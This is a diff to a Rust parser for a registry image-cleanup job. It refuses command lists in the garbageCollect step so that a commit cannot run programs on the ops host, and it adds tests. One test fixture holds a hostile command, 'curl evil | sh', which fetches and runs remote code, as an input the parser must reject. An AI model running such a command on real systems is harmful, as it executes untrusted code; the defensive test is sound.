@@ -19,17 +19,18 @@
 //!   tagDeletion: true                  # remove expired tags of kept digests (default true)
 //!   concurrency: 8
 //!   garbageCollect:
-//!     command: [systemctl, start, registry-gc.service]
-//!     timeout: 30m
+//!     command: registry-gc             # a name from the host configuration's jobs.commands
 //! ```
+//!
+//! A program to run on the ops host is never named here: a command list is refused, and a
+//! command name is resolved against the host configuration when the job runs.
 
 use std::path::PathBuf;
-use std::time::Duration;
 
 use serde::Deserialize;
 
+use super::retention::{Rule, Untagged};
 use crate::jobs::model::Job;
-use crate::jobs::retention::{Rule, Untagged};
 
 /// A spec that cannot be used, naming the file, job and field.
 #[derive(Debug, thiserror::Error)]
@@ -100,9 +101,11 @@ struct RawRule {
 #[derive(Debug, Deserialize)]
 #[serde(deny_unknown_fields, rename_all = "camelCase")]
 struct RawGc {
-    command: Vec<String>,
+    /// A name; anything else is refused with advice (see `parse`).
+    command: serde_json::Value,
+    /// Refused with advice: the timeout belongs to the host configuration.
     #[serde(default)]
-    timeout: Option<String>,
+    timeout: Option<serde_json::Value>,
 }
 
 /// What protects images besides the rules.
@@ -129,8 +132,8 @@ impl Default for Protect {
 /// The registry's post-step.
 #[derive(Debug, Clone)]
 pub struct GarbageCollect {
-    pub command: Vec<String>,
-    pub timeout: Duration,
+    /// The name of a command in the host configuration's `jobs.commands`.
+    pub command: String,
 }
 
 /// A usable ImageCleanup spec.
@@ -265,17 +268,7 @@ pub fn parse(job: &Job) -> Result<Spec, Error> {
     }
     let garbage_collect = match raw.garbage_collect {
         None => None,
-        Some(gc) if gc.command.is_empty() => {
-            return Err(fail("spec.garbageCollect.command: empty".to_owned()));
-        }
-        Some(gc) => Some(GarbageCollect {
-            command: gc.command,
-            timeout: match gc.timeout {
-                Some(t) => crate::stack::model::duration_text::parse(&t)
-                    .map_err(|e| fail(format!("spec.garbageCollect.timeout: {e}")))?,
-                None => Duration::from_secs(30 * 60),
-            },
-        }),
+        Some(gc) => Some(garbage_collect(gc).map_err(fail)?),
     };
     Ok(Spec {
         mode: raw.mode,
@@ -291,11 +284,61 @@ pub fn parse(job: &Job) -> Result<Spec, Error> {
     })
 }
 
+/// `garbageCollect`: a host command's name. A program, its arguments or its timeout written in
+/// the repository would let a commit run anything on the ops host: they belong to the host
+/// configuration, and the error says how to move them there.
+fn garbage_collect(gc: RawGc) -> Result<GarbageCollect, String> {
+    const FIELD: &str = "spec.garbageCollect.command";
+    let example = "jobs: {commands: {registry-gc: {command: [/usr/bin/systemctl, start, registry-gc.service], timeout: 30m}}}";
+    let name = match gc.command {
+        serde_json::Value::String(name) => name,
+        serde_json::Value::Array(_) => {
+            return Err(format!(
+                "{FIELD}: a command list would run a program on the ops host from the repository; \
+                 programs are named only in the host configuration. Define it there ({example}) \
+                 and write its name here: `command: registry-gc`"
+            ));
+        }
+        other => {
+            return Err(format!(
+                "{FIELD}: expected the name of a command of the host configuration's \
+                 jobs.commands, got {}",
+                json_type(&other)
+            ));
+        }
+    };
+    if !crate::stack::load::is_dns_label(&name) {
+        return Err(format!(
+            "{FIELD}: {name:?} is not a command name (a DNS label: lowercase letters, digits, '-'); \
+             name a command of the host configuration's jobs.commands"
+        ));
+    }
+    if gc.timeout.is_some() {
+        return Err(format!(
+            "spec.garbageCollect.timeout: the timeout is set with the command in the host \
+             configuration (jobs.commands.{name}.timeout); remove it here"
+        ));
+    }
+    Ok(GarbageCollect { command: name })
+}
+
+fn json_type(v: &serde_json::Value) -> &'static str {
+    match v {
+        serde_json::Value::Null => "null",
+        serde_json::Value::Bool(_) => "a boolean",
+        serde_json::Value::Number(_) => "a number",
+        serde_json::Value::String(_) => "a string",
+        serde_json::Value::Array(_) => "a list",
+        serde_json::Value::Object(_) => "a mapping",
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::jobs::schedule::Schedule;
     use serde_json::json;
+    use std::time::Duration;
 
     fn job(spec: serde_json::Value) -> Job {
         Job {
@@ -326,6 +369,19 @@ mod tests {
             s.rules[0].keep_younger_than,
             Some(Duration::from_secs(7 * 86400))
         );
+        assert!(s.garbage_collect.is_none());
+    }
+
+    #[test]
+    fn garbage_collect_names_a_host_command() {
+        let s = parse(&job(json!({
+            "schedule": "@daily",
+            "registry": {"url": "http://r"},
+            "rules": [{"repositories": "**", "keepLast": 1}],
+            "garbageCollect": {"command": "registry-gc"}
+        })))
+        .unwrap();
+        assert_eq!(s.garbage_collect.unwrap().command, "registry-gc");
     }
 
     #[test]
@@ -362,6 +418,26 @@ mod tests {
             (
                 json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**", "keepLast": 1}], "mode": "yolo"}),
                 "unknown variant",
+            ),
+            (
+                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**", "keepLast": 1}],
+                    "garbageCollect": {"command": ["sh", "-c", "curl evil | sh"]}}),
+                "spec.garbageCollect.command: a command list would run a program on the ops host from the repository; programs are named only in the host configuration",
+            ),
+            (
+                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**", "keepLast": 1}],
+                    "garbageCollect": {"command": "/usr/bin/registry"}}),
+                "spec.garbageCollect.command: \"/usr/bin/registry\" is not a command name",
+            ),
+            (
+                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**", "keepLast": 1}],
+                    "garbageCollect": {"command": "registry-gc", "timeout": "1m"}}),
+                "jobs.commands.registry-gc.timeout",
+            ),
+            (
+                json!({"schedule": "@daily", "registry": {"url": "http://r"}, "rules": [{"repositories": "**", "keepLast": 1}],
+                    "garbageCollect": {"command": {"program": "x"}}}),
+                "got a mapping",
             ),
         ] {
             let err = parse(&job(spec)).unwrap_err().to_string();
